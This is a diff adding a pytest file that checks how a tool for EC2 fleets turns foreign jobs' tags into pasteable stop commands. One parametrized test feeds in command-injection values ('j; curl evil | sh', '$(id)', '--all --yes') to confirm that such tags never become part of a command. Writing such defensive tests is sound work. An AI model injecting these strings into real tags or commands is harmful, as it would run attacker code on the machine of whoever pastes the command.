@@ -1,0 +1,29 @@
+"""What launch.infra says of jobs that keep it from deleting the account's roles."""
+
+from datetime import UTC, datetime
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from launch.ec2 import holding
+from launch.ec2.fleet import Fleet
+from launch.ec2.ownership import Foreign
+
+NOW = datetime(2026, 1, 1, tzinfo=UTC)
+
+
+def named(job: str, monkeypatch: pytest.MonkeyPatch) -> str:
+    aws: Any = SimpleNamespace(region="eu-west-1")
+    monkeypatch.setattr(holding, "find", lambda aws: Fleet(foreign=(Foreign("node", "i-1", job, "why"),)))
+    (line,) = holding.jobs(aws, NOW)
+    return line
+
+
+def test_a_job_comes_with_the_command_that_stops_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert named("j", monkeypatch) == "j in eu-west-1 (python -m launch.ec2 stop j --region eu-west-1)"
+
+
+@pytest.mark.parametrize("job", ["j; curl evil | sh", "$(id)", "--all --yes", ""])
+def test_a_strangers_tag_is_no_part_of_a_command_to_paste(job: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert "python" not in named(job, monkeypatch)
